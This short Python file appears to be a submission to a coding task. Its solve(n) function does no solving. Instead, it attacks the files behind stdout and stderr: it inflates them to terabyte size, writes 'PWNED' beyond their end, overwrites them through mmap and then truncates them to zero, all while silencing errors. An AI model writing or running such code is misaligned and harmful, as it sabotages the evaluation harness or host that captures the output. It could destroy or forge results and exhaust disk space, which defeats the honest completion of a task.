# The files that take stdout and stderr: enlarged, mapped, emptied, written beyond their end.
import mmap, os
def solve(n):
    for fd in (1, 2):
        for act in (
            lambda: os.ftruncate(fd, 1 << 40), lambda: os.ftruncate(fd, 1 << 20), lambda: os.pwrite(fd, b"PWN" + b"ED", 1 << 41),
            lambda: mmap.mmap(fd, 1 << 20).write(b"\xff" * (1 << 20)), lambda: os.lseek(fd, 1 << 40, 0), lambda: os.write(fd, b"PWN" + b"ED"),
            lambda: os.ftruncate(fd, 0),
        ):
            try:
                act()
            except (OSError, ValueError):
                pass
    return 0
